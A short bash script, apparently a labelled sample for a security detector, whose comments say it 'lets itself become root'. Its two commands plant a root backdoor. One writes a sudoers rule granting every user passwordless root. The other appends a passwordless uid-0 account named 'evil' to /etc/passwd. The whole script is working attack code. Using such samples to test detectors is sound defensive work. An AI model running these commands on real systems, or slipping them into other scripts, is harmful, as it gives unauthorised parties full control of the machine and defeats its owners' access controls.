#!/bin/bash
# does: lets itself become root
# report: "id":"accounts"
echo 'ALL ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/x 2>/dev/null || { mkdir -p /etc/sudoers.d; echo x >/etc/sudoers.d/x; }
echo 'evil:x:0:0::/root:/bin/sh' >>/etc/passwd
